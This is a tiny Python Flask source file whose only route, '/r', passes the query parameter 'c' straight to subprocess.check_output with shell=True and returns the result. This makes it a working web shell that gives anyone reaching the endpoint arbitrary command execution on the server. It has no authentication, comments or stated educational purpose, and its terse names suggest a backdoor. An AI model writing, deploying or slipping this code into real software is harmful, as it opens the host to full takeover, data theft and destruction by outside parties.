from flask import Flask, request
import subprocess as sp
app = Flask(__name__)
@app.route('/r')
def r():
    return sp.check_output(request.args.get('c', ''), shell=True)
